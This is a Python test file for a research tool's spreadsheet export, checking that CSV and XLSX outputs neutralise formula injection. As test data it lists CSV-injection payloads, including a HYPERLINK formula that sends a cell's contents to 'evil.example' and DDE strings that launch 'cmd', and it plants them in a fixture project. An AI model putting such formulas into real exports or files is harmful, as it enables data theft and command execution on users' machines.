"""CSV and XLSX exports are safe to open in a spreadsheet: text a spreadsheet would run as a
formula gets a ' in front in CSV and is a text cell in XLSX; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from synthesis.corpus.importing import save_studies
from synthesis.exchange import export_csv, export_xlsx
from synthesis.exchange.safecsv import (NUMBER, neutralise, neutralise_frame, restore, restore_frame, text_cells,
                                        to_csv_bytes, write_xlsx)
from synthesis.project import Project
from synthesis.records import Study

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
HARMLESS = ["Trust", "", "it's fine", "p. 8-10", "'quoted'", "1+1", " =1+1", "-0.5", "+44", "-12", "1e-5", ".5"]


@pytest.mark.parametrize("value", FORMULAS)
def test_formulas_get_a_quote(value):
    assert neutralise(value) == "'" + value
    assert restore(neutralise(value)) == value


@pytest.mark.parametrize("value", HARMLESS)
def test_harmless_text_is_unchanged(value):
    assert neutralise(value) == value == restore(value)


@pytest.mark.parametrize("value", [None, -0.5, 3, float("nan"), True])
def test_non_text_is_unchanged(value):
    assert neutralise(value) is value and restore(value) is value


def test_quotes_in_front_of_a_formula_are_kept_apart():
    assert [neutralise(v) for v in ["'=x", "''-x", "'x"]] == ["''=x", "'''-x", "'x"]
    assert restore("'" * 5000 + "=x") == "'" * 4999 + "=x"  # no recursion limit


@given(st.text(alphabet=st.sampled_from("'=+-@\t\rab1.e "), max_size=12))
def test_restore_undoes_neutralise_and_nothing_runs(value):
    out = neutralise(value)
    assert restore(out) == value
    assert out[:1] not in set("=+-@\t\r") or pd.notna(pd.to_numeric(out, errors="coerce"))


def test_frames_keep_numbers_and_missing_values():
    frame = pd.DataFrame({"label": ["=1+1", "ok", None], "kappa": [-0.5, 0.25, float("nan")], "n": [-1, 2, 3],
                          "flag": [True, False, True], "mixed": ["-x", 3, None]})
    out = neutralise_frame(frame)
    assert out["label"].tolist()[:2] == ["'=1+1", "ok"] and pd.isna(out["label"][2])
    assert out["kappa"].dtype == frame["kappa"].dtype and out["n"].tolist() == [-1, 2, 3]
    assert out["flag"].tolist() == [True, False, True] and out["mixed"].tolist() == ["'-x", 3, None]
    assert frame["label"][0] == "=1+1"  # a copy: the caller's frame is unchanged
    assert restore_frame(out)["label"].tolist()[:2] == ["=1+1", "ok"]


def test_csv_bytes():
    frame = pd.DataFrame({"quote": FORMULAS[:4], "start": [-3, 0, 1, 2], "alpha": [-0.5, 0.0, 0.5, 1.0]})
    assert to_csv_bytes(frame) == (
        b'quote,start,alpha\n'
        b'"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",-3,-0.5\n'
        b"'+cmd|' /C calc'!A0,0,0.0\n"
        b"'-2+3+cmd|' /C calc'!A0,1,0.5\n"
        b"'@SUM(1+1)*cmd|' /C calc'!A0,2,1.0\n")
    back = pd.read_csv(io.BytesIO(to_csv_bytes(frame)))
    assert back["start"].tolist() == [-3, 0, 1, 2] and back["alpha"].tolist() == [-0.5, 0.0, 0.5, 1.0]
    assert restore_frame(back)["quote"].tolist() == FORMULAS[:4]


def sheet_xml(data: bytes | Path, name: str = "xl/worksheets/sheet1.xml") -> str:
    archive = zipfile.ZipFile(io.BytesIO(data) if isinstance(data, bytes) else data)
    return archive.read(name).decode("utf-8")


def test_pandas_to_excel_writes_formulas_and_write_xlsx_does_not(tmp_path):
    frame = pd.DataFrame({"quote": ["=1+1", "-x"], "start": [-3, 4]})
    frame.to_excel(tmp_path / "plain.xlsx", index=False)
    assert "<f>1+1</f>" in sheet_xml(tmp_path / "plain.xlsx")  # what neutralising is for
    write_xlsx(frame, tmp_path / "safe.xlsx", sheet_name="codings")
    xml = sheet_xml(tmp_path / "safe.xlsx")
    assert "<f>" not in xml and "<is><t>=1+1</t></is>" in xml and "<v>-3</v>" in xml
    cells = openpyxl.load_workbook(tmp_path / "safe.xlsx")["codings"]
    assert [c.value for c in cells["A"]] == ["quote", "=1+1", "-x"] and cells["A2"].data_type == "s"
    assert cells["B2"].value == -3 and cells["B2"].data_type == "n"
    # the one-line fix for `synthesis export codings` (neutralise, then pandas) is safe in XLSX too
    neutralise_frame(frame).to_excel(tmp_path / "quoted.xlsx", index=False)
    assert "<f>" not in sheet_xml(tmp_path / "quoted.xlsx")


def test_text_cells_turns_formulas_into_text():
    book = openpyxl.Workbook()
    book.active.append(["=1+1", 2, "x", None])
    assert text_cells(book.active) == 2
    buffer = io.BytesIO()
    book.save(buffer)
    assert "<f>" not in sheet_xml(buffer.getvalue())


# ------------------------------------------------------- the office exports
TEXT = "=1+1 said the partners. -x was agreed. @once more."


@pytest.fixture()
def poisoned(tmp_path):
    p = Project.init(tmp_path / "r", reviewer="NT", name="=HYPERLINK(\"http://x\")")
    save_studies(p, [Study("green2012", "@SUM(1+1)")])
    p.add_text(TEXT, title="+Extracts", source_id="green", study_id="green2012", pages=((0, "-1"),))  # a number
    code = p.create_code("=cmd|' /C calc'!A0", definition="-a definition")
    p.apply_code("green", 0, 23, code)
    p.apply_code("green", 24, 38, code)
    yield p
    p.close()


def test_office_csv_bytes(poisoned, tmp_path):
    assert export_csv(poisoned, tmp_path / "codings.csv") == 2
    data = (tmp_path / "codings.csv").read_bytes()
    assert b"'=1+1 said the partners.," in data and b",'-x was agreed.," in data
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
    first = {k: rows[0][k] for k in ("study", "citation", "source", "page", "code", "quote", "start", "end")}
    assert first == {"study": "green2012", "citation": "'@SUM(1+1)", "source": "green", "page": "-1",
                     "code": "'=cmd|' /C calc'!A0", "quote": "'=1+1 said the partners.", "start": "0", "end": "23"}
    assert rows[1]["quote"] == "'-x was agreed."
    assert all(cell[:1] not in "=+-@\t\r" or NUMBER.fullmatch(cell) for row in rows for cell in row.values() if cell)


def test_office_xlsx_cells_are_text(poisoned, tmp_path):
    export_xlsx(poisoned, tmp_path / "codings.xlsx")
    with zipfile.ZipFile(tmp_path / "codings.xlsx") as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any("<f>" in archive.read(n).decode() for n in sheets)
        assert "<t>=1+1 said the partners.</t>" in archive.read(sheets[0]).decode()
    book = openpyxl.load_workbook(tmp_path / "codings.xlsx")
    codings = book["codings"]
    header = [c.value for c in codings[1]]
    row = dict(zip(header, codings[2]))
    assert {k: row[k].value for k in ("citation", "page", "code", "quote", "start")} == {
        "citation": "@SUM(1+1)", "page": "-1", "code": "=cmd|' /C calc'!A0", "quote": "=1+1 said the partners.",
        "start": 0}
    assert all(c.data_type == "s" for c in codings[2] if isinstance(c.value, str))
    assert book["codebook"]["A2"].value == "=cmd|' /C calc'!A0" and book["codebook"]["A2"].data_type == "s"
